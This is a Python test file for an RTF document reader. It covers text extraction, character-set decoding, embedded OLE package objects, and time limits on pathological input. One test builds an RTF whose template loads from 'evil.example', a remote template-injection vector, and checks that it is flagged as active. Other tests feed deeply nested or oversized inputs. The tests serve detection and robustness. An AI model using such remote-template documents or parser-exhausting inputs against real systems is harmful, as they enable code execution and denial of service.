"""RTF files: words, links, hidden words, objects."""

from __future__ import annotations

import struct
import time

import pytest

from tests.unit.files.made import docx, read_bytes, sample, words_of


def test_words_of_a_letter_by_an_office_program() -> None:
    """Header, body, table, note and link are read; deleted words are not, and hidden ones are told apart."""
    found = sample("office/letter.rtf")
    text = words_of(found)

    for words in ("Invoice 1187 café", "header words", "footnoteword", "textboxword", "Paper\t700.00", "東京"):
        assert words in text
    assert "deletedword" not in text
    assert words_of(found, seen=False) == "hiddenword"
    assert [(link.url, link.shown) for link in found.links] == [
        ("https://pay.kesselring.example/login", "the customer page")
    ]


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (rb"\u8364?uro", "€uro"),
        (rb"\uc2\u8364EEuro", "€uro"),
        (rb"\uc0\u-10179 \u-8704 x", "\U0001f600x"),
        (rb"{\upr{plain}{\*\ud{\u26085?\u26412?}}}", "日本"),
        (rb"{\fonttbl{\f1\fcharset204 Arial;}}\f1\'cf\'f0\'e8", "При"),
        (rb"{\fonttbl{\f1\fcharset128 Mincho;}}\f1\'93\'fa\'96\'7b", "日本"),
        (rb"{\*\unknown gone}a{\v secret}b\par c", "ab\nc"),
        (rb"{\field{\*\fldinst DATE}{\*\fldrslt today}}", "today"),
        (rb"\{x\}\\\~y", "{x}\\\u00a0y"),
    ],
    ids=["one", "two", "pair", "upr", "cyrillic", "double", "hidden", "field", "escaped"],
)
def test_letters_are_decoded(body: bytes, words: str) -> None:
    """Unicode with its fallbacks, and the character sets of fonts."""
    assert words_of(read_bytes(rb"{\rtf1\ansi\ansicpg1252 " + body + b"}")) == words


def _object(name: bytes, content: bytes) -> bytes:
    head = struct.pack("<III", 0x0501, 2, len(name) + 1) + name + b"\0" + bytes(8)
    return (head + struct.pack("<I", len(content)) + content).hex().encode()


def test_an_object_is_a_file_inside() -> None:
    """A packed file in an object is read; an object that updates itself is active."""
    inner = docx("<w:p><w:r><w:t>inside</w:t></w:r></w:p>")
    packed = (
        b"\x02\0plan.docx\0C:\\plan.docx\0"
        + bytes(4)
        + struct.pack("<I", 3)
        + b"C:\0"
        + struct.pack("<I", len(inner))
        + inner
    )
    body = rb"{\rtf1{\object\objemb\objupdate{\*\objclass Package}{\*\objdata " + _object(b"Package", packed) + b"}}}"
    found = read_bytes(body)

    assert found.members == ("plan.docx",)
    assert "inside" in found.files[0].document.text
    assert found.is_active


def test_a_template_from_elsewhere_is_active() -> None:
    """A text that loads its template from an address runs what stands there."""
    found = read_bytes(rb"{\rtf1{\*\template https://evil.example/t.dot}hello}")

    assert found.is_active
    assert [link.url for link in found.links] == ["https://evil.example/t.dot"]


@pytest.mark.parametrize(
    "body", [b"{" * 200_000, b"\\objdata " + b"4" * 2_000_000, b"\\u1 " * 500_000, b"\\" * 300_000]
)
def test_hostile_texts_are_bounded(body: bytes) -> None:
    """Deep groups, endless hexadecimals and escapes end in time."""
    begin = time.perf_counter()

    assert read_bytes(b"{\\rtf1 " + body).kind == "application/rtf"
    assert time.perf_counter() - begin < 5
